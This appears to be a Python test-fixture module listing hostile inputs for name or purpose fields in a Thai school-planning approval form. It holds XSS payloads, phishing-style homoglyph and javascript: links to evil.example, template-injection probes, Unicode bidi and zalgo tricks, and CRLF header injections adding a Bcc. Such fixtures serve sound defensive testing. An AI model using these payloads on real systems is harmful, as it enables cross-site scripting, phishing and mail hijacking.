"""What a stranger may write in place of a name or a purpose, to be taken for more than words."""

from __future__ import annotations

import unicodedata

HARMLESS = "เพื่อจัดทำแผนของโรงเรียน"
_MARKS = "".join(c for c in map(chr, range(0x300, 0x3000)) if unicodedata.combining(c))

MARKUP = (
    "<a href='http://evil.example'>อนุญาต</a>",
    '<img src="//evil.example/x" onerror="alert(1)">',
    "</blockquote></div></td></table></body><h1>อนุญาตแล้ว</h1>",
    "</textarea><button name=choice value=approve>อนุญาต</button>",
    "</title><script>document.forms[0].submit()</script>",
    "<style>*{display:none}</style>",
    '" style="position:fixed;inset:0" onmouseover="x',
    "<svg/onload=alert(1)>",
    "<form action=//evil.example><input name=code>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "&lt;a href=x&gt; &#60;script&#62; &nbsp;",
    "<!-- ]]> --> <![CDATA[",
)
LINKS = (
    "http://evil.example/ok",
    "javascript:alert(1)",
    "evil.com",
    "ที่.com",
    "evil\u0301.com",
    "💩.la",
    "evil\u034f.com",
    "www.evil.example",
    "evil․com",
    "evil﹒com",
    "evil．com／อนุญาต",
    "ht\u200btp://evil.com",
    "a@evil.example",
    "mailto:data@office.example.org?subject=x&bcc=a@evil.example",
    "data:text/html,<script>alert(1)</script>",
    "sip:a@evil.example",
    "xmpp:evil",
    "magnet:?xt=urn:btih:1",
    "ms-word:ofe|u|evil",
    "tg:resolve?domain=evil",
    "blob:x",
    "//evil.example",
    "[อนุญาต](http://evil.example)",
    "<http://evil.example>",
    "ｊａｖａｓｃｒｉｐｔ：alert(1)",
    "https:\u2028//evil.com",
    "192.168.1.1",
    "раураl.com",  # Cyrillic letters that look Latin
)
TEMPLATES = (
    "{{7*7}}",
    "{% for x in (1,2,3) %}x{% endfor %}",
    "{{request.__class__.__mro__}}",
    "${7*7} #{7*7} <%= 7*7 %> {{{7*7}}} [[7*7]]",
    "{number} {count} %s %d %(x)s {0}",
    "{# ไม่มี #}",
)
TRICKS = (
    "\u202eอนุญาต\u202c",
    "\u2067\u2066x",
    "\u200f\u200e\u061cx",
    "x\u0000\u0007\u001b[31mx",
    "\u3164" * 50 + "x",
    "\u2800" * 50 + "x",
    "\ufe0f\U000e0100\u17b4x",
    "\u034f\u034fx",
    "ก" + "\u0e48" * 400,
    "Z" + _MARKS[:300],
    "ก\u0489\u0488\u20dd\u0488\u0489\u0488",
    "﷽" * 60,
    "𒐫" * 60,
    "W" * 1900,
    "ก" * 1900,
    "https" * 300,
    "\n" * 300 + "x",
    "a\nb\u2028c\u2029d\x85e\x0bf",
    "\t\t\t\tx",
)
INJECTIONS = (
    "x\r\nBcc: a@evil.example",
    "x\n\nอนุญาต\nรหัส 123456",
    "x%0d%0aBcc:%20a@evil.example",
    "x&body=อนุญาต&cc=a@evil.example",
    "x?subject=อนุญาต",
    "=?utf-8?q?x=0d=0aBcc:_a@evil.example?=",
    '"><x y="',
)
ALL = (*MARKUP, *LINKS, *TEMPLATES, *TRICKS, *INJECTIONS)
